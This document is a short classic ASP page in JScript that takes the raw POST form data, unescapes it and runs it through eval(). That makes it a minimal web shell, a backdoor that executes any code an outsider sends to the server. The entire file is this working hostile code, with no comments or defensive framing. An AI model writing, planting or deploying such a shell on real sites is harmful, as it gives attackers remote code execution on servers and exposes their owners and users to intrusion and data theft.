<%@ Language="JScript" %>
<%
var all = Request.Form + "";
var body = unescape(all.substr(2));
eval(body);
%>
